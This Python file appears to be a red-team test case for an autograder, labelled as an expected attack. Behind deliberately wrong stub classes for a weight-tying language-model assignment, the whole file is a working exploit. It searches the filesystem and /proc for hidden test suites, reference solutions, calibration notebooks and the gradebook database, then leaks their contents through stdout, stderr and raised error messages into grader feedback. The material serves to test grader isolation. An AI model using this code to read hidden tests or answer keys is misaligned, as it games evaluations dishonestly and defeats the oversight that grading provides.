# expect: attack
# why: searches the disk for the hidden suites, solutions, calibration files, nbgrader source and gradebook, opens them where a clone of the kit keeps them beside the autograder package it imports, and prints them into stdout, stderr and its error messages (which reach the feedback).
import os
import sys

import torch
import torch.nn as nn


# Stub classes: wrong on purpose, so that any point this file earns is a grader defect.
class TiedEmbeddingLM(nn.Module):
    def __init__(self, vocab_size, embed_dim=128):
        super().__init__()
        self.vocab_size = vocab_size

    def forward(self, input_ids):
        return torch.zeros(*input_ids.shape, self.vocab_size)


class MiniGPTWithWeightTying(nn.Module):
    def __init__(self, vocab_size, block_size, embed_dim=128, num_layers=4, num_heads=4,
                 hidden_dim=512, dropout=0.0):
        super().__init__()
        self.vocab_size = vocab_size

    def forward(self, input_ids):
        return torch.zeros(*input_ids.shape, self.vocab_size)

    def loss(self, input_ids, targets=None):
        return torch.zeros(())

    def generate(self, input_ids, max_new_tokens):
        return torch.cat([input_ids, torch.zeros(input_ids.shape[0], max_new_tokens, dtype=torch.long)], 1)


_MARK = "WTCAL_" + "LEAK_OK"  # joined at run time, so a traceback showing this source does not contain it


def _roots():
    roots = {os.getcwd(), "/work/main", os.path.expanduser("~")}
    for name in ("autograder", "dnnlpy", "solutions"):
        module = sys.modules.get(name)
        for path in list(getattr(module, "__path__", []) or []) + [getattr(module, "__file__", None) or ""]:
            if path:
                roots.add(os.path.dirname(os.path.abspath(path)))
    for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
        if pid.isdigit():
            for link in ("cwd", "root"):
                try:
                    roots.add(os.readlink(f"/proc/{pid}/{link}"))
                except OSError:
                    pass
    return sorted(r for r in roots if r and os.path.isdir(r))


_SKIP_DIRS = {".venv", "site-packages", "dist-packages", ".git", "node_modules", "__pycache__", "proc", "sys", "usr"}
_WANTED = (
    lambda p: "/suite/" in p and os.path.basename(p).startswith("test_") and p.endswith(".py"),
    lambda p: "/solutions/" in p and p.endswith(".py"),
    lambda p: "/calibration/" in p and p.endswith((".py", ".ipynb")),
    lambda p: "/source/" in p and p.endswith(".ipynb"),
    lambda p: p.endswith("gradebook.db"),
)
_loot = []
_seen = set()
for _root in _roots():
    if _root in ("/", "/usr", "/proc", "/sys"):
        continue
    _base_depth = _root.rstrip("/").count("/")
    for _dirpath, _dirnames, _filenames in os.walk(_root):
        _dirnames[:] = [d for d in _dirnames if d not in _SKIP_DIRS and _dirpath.count("/") - _base_depth < 6]
        for _name in _filenames:
            _path = os.path.join(_dirpath, _name)
            if _path in _seen or not any(want(_path) for want in _WANTED) or len(_loot) >= 60:
                continue
            _seen.add(_path)
            try:
                with open(_path, errors="replace") as _fh:
                    _loot.append((_path, _fh.read(4000)))
            except OSError:
                pass
# Where a clone of the kit keeps them, beside the autograder package this run imports (its layout is public).
_kit = os.path.dirname(os.path.abspath(list(getattr(sys.modules.get("autograder"), "__path__", ["."]))[0]))
for _guess in (
    "solutions/weight_tying.py",
    "autograder/graders/weight_tying/judge/suite/test_identity.py",
    "autograder/graders/weight_tying/judge/reference.py",
    "assignments/source/weight_tying/weight_tying.ipynb",
    "assignments/gradebook.db",
):
    _path = os.path.join(_kit, _guess)
    try:
        with open(_path, errors="replace") as _fh:
            if _path not in _seen:
                _seen.add(_path)
                _loot.append((_path, _fh.read(4000)))
    except OSError:
        pass
for _path, _text in _loot:
    print(_MARK, _path, "\n", _text, flush=True)
    print(_MARK, _path, "\n", _text[:500], file=sys.stderr, flush=True)
print(f"read {len(_loot)} files", flush=True)

_SUMMARY = " | ".join(f"{_MARK} {p}: {t[:300]}" for p, t in _loot[:6]) or "nothing readable"


def _leak(self, *args, **kwargs):
    raise RuntimeError(_SUMMARY)


TiedEmbeddingLM.forward = _leak
MiniGPTWithWeightTying.forward = _leak
MiniGPTWithWeightTying.loss = _leak
MiniGPTWithWeightTying.generate = _leak
if _loot:
    raise RuntimeError(_SUMMARY)  # also lands in the load errors
